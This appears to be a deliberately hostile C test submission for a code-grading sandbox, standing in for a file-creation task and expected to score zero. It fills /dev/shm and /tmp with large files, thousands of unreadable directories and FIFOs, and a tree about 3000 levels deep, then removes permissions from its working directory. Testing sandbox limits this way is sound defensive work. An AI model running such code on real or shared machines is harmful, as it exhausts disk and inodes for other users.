/**
 * @file
 * @brief Hostile: fills /dev/shm, the working directory and /tmp with bytes, names and nested directories.
 * Instead of: 08_posix_create/posix_create.c
 * Score: 0
 * Says: exit status 0
 *
 * Without limits of their own on bytes and inodes, these directories use up the machine's. Many programs cannot
 * remove a tree that is thousands of directories deep, or one without permission to read and enter it.
 */
#define _DEFAULT_SOURCE

#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void fill(const char *folder)
{
    static char bytes[1 << 20];
    char name[300];
    snprintf(name, sizeof name, "%s/large", folder);
    const int fd = open(name, O_WRONLY | O_CREAT, 0);
    for (int i = 0; i < 100 && write(fd, bytes, sizeof bytes) > 0; i++)
        ;
    close(fd);
    for (int i = 0; i < 20000; i++) {
        snprintf(name, sizeof name, "%s/%d", folder, i);
        if ((i % 2 ? mkfifo(name, 0) : mkdir(name, 0)) == -1)
            break;
    }
}

int main(void)
{
    chdir("/tmp/lab");
    for (int depth = 0; depth < 3000 && mkdir("down", 0777) == 0 && chdir("down") == 0; depth++)
        ;
    fill("/dev/shm");
    fill("/tmp/lab");
    fill("/tmp");
    chmod("/tmp/lab", 0);
    return 0;
}
